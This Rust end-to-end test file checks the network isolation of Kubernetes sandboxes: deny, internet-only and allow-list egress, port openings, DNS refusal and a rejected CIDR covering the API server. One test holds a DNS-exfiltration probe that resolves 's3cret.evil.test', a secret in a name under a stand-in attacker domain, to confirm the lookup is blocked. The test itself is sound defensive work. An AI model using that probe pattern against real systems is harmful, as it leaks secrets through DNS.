//! What a sandbox reaches: nothing that an unrestricted pod was seen to reach in the same run.

use api::{Egress, Network, Settings, condition, names, reason};
use e2e::{
    Cluster, NAMESPACE, Sandbox, is, kubectl, kubectl_with,
    mcp::{Answer, Door},
    probe::{
        INTERNET, OPEN, Reached, from_open_pod, from_pod, from_sandbox, label, listen, open_pods,
        targets,
    },
};
use serde_json::{Value, json};
use tokio::process::Command;

/// The targets, another sandbox that a policy opens among them, and that an open pod reaches every one of them now.
async fn control(
    cluster: &Cluster,
    sandbox: &Sandbox,
    peer: &Sandbox,
) -> anyhow::Result<(Value, Reached)> {
    open_pods(cluster, sandbox).await?;
    let mut all = targets(cluster).await?;
    let other = listen(cluster, peer).await?;
    let policy = json!({
        "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
        "metadata": {"name": format!("e2e-opens-{}", peer.name()), "namespace": NAMESPACE},
        "spec": {
            "podSelector": {"matchLabels": {names::SANDBOX: peer.name()}},
            "policyTypes": ["Ingress"], "ingress": [{}],
        },
    });
    kubectl_with(&["apply", "-f", "-"], &policy.to_string()).await?;
    e2e::until("the peer is open", async || Ok(from_open_pod(&other).await?["another sandbox"]))
        .await?;
    all.as_array_mut().expect("a list").push(other[0].clone());
    let reached = from_open_pod(&all).await?;
    assert!(reached.values().all(|reached| *reached), "the control has to reach all: {reached:?}");
    Ok((all, reached))
}

async fn close(peer: Sandbox) -> anyhow::Result<()> {
    let policy = format!("e2e-opens-{}", peer.name());
    kubectl(&["delete", "networkpolicy", &policy, "-n", NAMESPACE]).await?;
    peer.delete().await
}

/// tests.md F7; and exec works all the while.
#[tokio::test]
async fn a_denied_sandbox_reaches_nothing_an_open_pod_reaches() -> anyhow::Result<()> {
    let cluster = Cluster::connect().await?;
    let sandbox = cluster.ready("denied", e2e::spec()).await?;
    let peer = cluster.ready("denied-peer", e2e::spec()).await?;
    let (targets, control) = control(&cluster, &sandbox, &peer).await?;
    let denied = from_sandbox(&sandbox, &targets).await?;
    assert_eq!(denied.keys().collect::<Vec<_>>(), control.keys().collect::<Vec<_>>());
    assert!(denied.values().all(|reached| !*reached), "{denied:?}");

    // The other way: something listens in the sandbox, and the open pod does not get there, as it gets to the peer.
    let inward = listen(&cluster, &sandbox).await?;
    let inside = from_sandbox(&sandbox, &json!([["itself", "tcp", "127.0.0.1", 8000]])).await?;
    assert!(inside["itself"], "the server in the sandbox has to listen");
    assert!(!from_open_pod(&inward).await?["another sandbox"]);
    close(peer).await?;
    sandbox.delete().await
}

/// Looks a name up with a secret in it, as programs do, and sees that it fails within a second.
const LOOKUP: &str = "python3 -c \"import socket, time; t = time.monotonic()
try: socket.getaddrinfo('s3cret.evil.test', 80)
except OSError: print(time.monotonic() - t < 1)\"";

/// tests.md F6: no query leaves, so that none carries anything out; it is refused at once, logged and told, without what may
/// be a secret.
#[tokio::test]
async fn names_are_refused_at_once_logged_and_told_under_deny() -> anyhow::Result<()> {
    let cluster = Cluster::connect().await?;
    let door = Door::from_env()?;
    let allow =
        spec(json!({"allow": [{"cidr": format!("{INTERNET}/32"), "ports": [{"port": 80}]}]}))?;
    let gvisor = Settings { runtime_class_name: Some("gvisor".into()), ..e2e::spec() };
    let denied =
        [("nameless", e2e::spec()), ("nameless-allowing", allow), ("nameless-gvisor", gvisor)];
    for (name, spec) in denied {
        let sandbox = cluster.ready_for_mcp(name, spec).await?;
        assert_eq!(refused_names(&door, name).await?, Value::Null);
        assert_eq!(sandbox.shell(LOOKUP).await?.text(), "True\n");

        let told = refused_names(&door, name).await?;
        // Libraries ask for addresses of both families, and some of them twice.
        assert!(told["count"].as_u64().is_some_and(|count| count > 0), "{told}");
        assert_eq!(told["domains"], json!(["evil.test"]));
        let mut log = String::new();
        e2e::until("the node has the line", async || {
            log = kubectl(&["logs", &sandbox.pod(), "-n", NAMESPACE]).await?;
            Ok(log.contains("evil.test"))
        })
        .await?;
        let said =
            log.lines().filter(|line| line.contains("refused to resolve a name in evil.test:"));
        assert_eq!(said.count(), 1, "{log}");
        assert!(!log.contains("s3cret"), "{log}");
        sandbox.delete().await?;
    }
    Ok(())
}

/// What `sandbox_get` says of the names that a sandbox was refused.
async fn refused_names(door: &Door, name: &str) -> anyhow::Result<Value> {
    match door.call("sandbox_get", json!({"sandbox_id": name})).await {
        Answer::Told(told) => Ok(told["structuredContent"]["refused_names"].clone()),
        other => anyhow::bail!("{other:?}"),
    }
}

#[tokio::test]
async fn internet_reaches_public_addresses_and_nothing_private() -> anyhow::Result<()> {
    let cluster = Cluster::connect().await?;
    let network = Some(Network { egress: Some(Egress::Internet), ..Network::default() });
    let spec = Settings { network, ..e2e::spec() };
    let sandbox = cluster.ready("outward", spec).await?;
    let peer = cluster.ready("outward-peer", e2e::spec()).await?;
    let (targets, _) = control(&cluster, &sandbox, &peer).await?;
    let reached = from_sandbox(&sandbox, &targets).await?;
    let public: Vec<&str> =
        reached.iter().filter(|(_, reached)| **reached).map(|(name, _)| name.as_str()).collect();
    // Its resolver is the internet's, so that not even the cluster's DNS is in reach.
    assert_eq!(
        public,
        ["internet, DNS", "internet, TCP", "internet, TCP echo", "internet, UDP"],
        "{reached:?}"
    );
    let named = from_sandbox(&sandbox, &json!([["by name", "tcp", "example.test", 80]])).await?;
    assert!(named["by name"], "names are resolved");
    close(peer).await?;
    sandbox.delete().await
}

/// Of the cluster rather than of sandboxes: pods that come and go would cut others off for seconds, and every denial seen
/// meanwhile would be worth nothing.
#[tokio::test]
async fn whoever_joins_the_bridge_cuts_no_pod_off() -> anyhow::Result<()> {
    let cluster = Cluster::connect().await?;
    let image = cluster.ready("bridge-image", e2e::spec()).await?;
    open_pods(&cluster, &image).await?;
    image.delete().await?;
    let internet = json!([["internet", "tcp", INTERNET, 80]]);
    assert!(from_open_pod(&internet).await?["internet"], "its neighbour table has the gateway");

    // Lower than any address that a pod's end gets by chance.
    let port = "ip link add e2e-low address 02:00:00:00:00:01 type veth peer name e2e-low-peer && \
        ip link set e2e-low-peer up && ip link set e2e-low master cni0 up";
    let sh = async |line: &str| e2e::output(Command::new("sh").args(["-c", line]), "").await;
    sh(port).await?;
    let reached = from_open_pod(&internet).await;
    sh("ip link delete e2e-low").await?;
    assert!(reached?["internet"]);
    Ok(())
}

/// What a test asks for that asks for such a network.
fn spec(network: Value) -> anyhow::Result<Settings> {
    Ok(Settings { network: Some(serde_json::from_value(network)?), ..e2e::spec() })
}

/// The pods without policies that have a label, in a policy's words.
fn open_pods_with(key: &str, value: &str) -> Value {
    json!({
        "podSelector": {"matchLabels": {key: value}},
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": OPEN}},
    })
}

fn names_of(reached: &Reached) -> Vec<&str> {
    reached.iter().filter(|(_, reached)| **reached).map(|(name, _)| name.as_str()).collect()
}

#[tokio::test]
async fn a_sandbox_reaches_the_pods_and_ranges_that_it_names_on_their_ports_and_nothing_else()
-> anyhow::Result<()> {
    let cluster = Cluster::connect().await?;
    let peer = cluster.ready("allowing-peer", e2e::spec()).await?;
    open_pods(&cluster, &peer).await?;
    label("neighbour", "e2e=answers").await?;
    let mut pods = open_pods_with("e2e", "answers");
    pods["ports"] = json!([{"port": 8000}]);
    let range = json!({"cidr": format!("{INTERNET}/32"), "ports": [{"port": 80}]});
    let sandbox = cluster.ready("allowing", spec(json!({"allow": [pods, range]}))?).await?;

    let (targets, _) = control(&cluster, &sandbox, &peer).await?;
    let allowed = ["another pod, TCP", "internet, TCP"];
    e2e::until("what is allowed is reached", async || {
        let reached = from_sandbox(&sandbox, &targets).await?;
        Ok(allowed.iter().all(|name| reached[*name]))
    })
    .await?;
    assert_eq!(names_of(&from_sandbox(&sandbox, &targets).await?), allowed);

    let now = cluster.sandboxes.get("allowing").await?;
    assert!(is(&now, condition::NETWORK_ISOLATED));
    assert_eq!(e2e::reason(&now, condition::NETWORK_ISOLATED), reason::ALLOW_POLICY);
    close(peer).await?;
    sandbox.delete().await
}

#[tokio::test]
async fn a_port_is_reached_by_those_it_is_opened_to_and_by_nobody_else() -> anyhow::Result<()> {
    let cluster = Cluster::connect().await?;
    let peer = cluster.ready("served-peer", e2e::spec()).await?;
    open_pods(&cluster, &peer).await?;
    label("probe", "e2e=asks").await?;
    let from = open_pods_with("e2e", "asks");
    let ports = json!({"ports": [{"port": 8000, "from": [from]}]});
    let sandbox = cluster.ready("served", spec(ports)?).await?;

    // Both pods reach the peer, which a policy opens to everybody, so that what they do not reach is closed to them.
    let (all, _) = control(&cluster, &sandbox, &peer).await?;
    let other = json!([all.as_array().and_then(|all| all.last())]);
    assert!(from_pod("neighbour", &other).await?["another sandbox"]);

    let mut inward = listen(&cluster, &sandbox).await?;
    sandbox.shell("python3 -m http.server 8001 >/dev/null 2>&1 &").await?;
    let within = json!([["8000", "tcp", "127.0.0.1", 8000], ["8001", "tcp", "127.0.0.1", 8001]]);
    e2e::until("both servers listen", async || {
        Ok(from_sandbox(&sandbox, &within).await?.values().all(|reached| *reached))
    })
    .await?;
    let closed = json!(["its other port", "tcp", inward[0][2], 8001]);
    inward.as_array_mut().expect("a list").push(closed);
    e2e::until("the port is reached", async || {
        Ok(from_pod("probe", &inward).await?["another sandbox"])
    })
    .await?;
    assert_eq!(names_of(&from_pod("probe", &inward).await?), ["another sandbox"]);
    assert!(names_of(&from_pod("neighbour", &inward).await?).is_empty());
    // An open port is no way out.
    assert!(names_of(&from_sandbox(&sandbox, &all).await?).is_empty());
    close(peer).await?;
    sandbox.delete().await
}

#[tokio::test]
async fn a_range_with_the_api_server_in_it_is_refused_and_nothing_is_made() -> anyhow::Result<()> {
    let cluster = Cluster::connect().await?;
    let get = ["get", "service", "kubernetes", "-n", "default", "-o", "jsonpath={.spec.clusterIP}"];
    let server = kubectl(&get).await?;
    let range = format!("{server}/32");
    cluster.create("forbidden", spec(json!({"allow": [{"cidr": range}]}))?).await?;
    let forbidden = cluster
        .wait("forbidden", "refused", |s| {
            e2e::reason(s, condition::READY) == reason::NETWORK_FORBIDDEN
        })
        .await?;
    let status = forbidden.status.as_ref().and_then(|status| status.condition(condition::READY));
    let message = status.map(|ready| ready.message.clone()).unwrap_or_default();
    assert!(
        message.starts_with(&format!("network.allow[0].cidr {range} contains {server}")),
        "{message}"
    );
    assert!(cluster.pods.get_opt("forbidden-1").await?.is_none());
    cluster.delete("forbidden").await
}
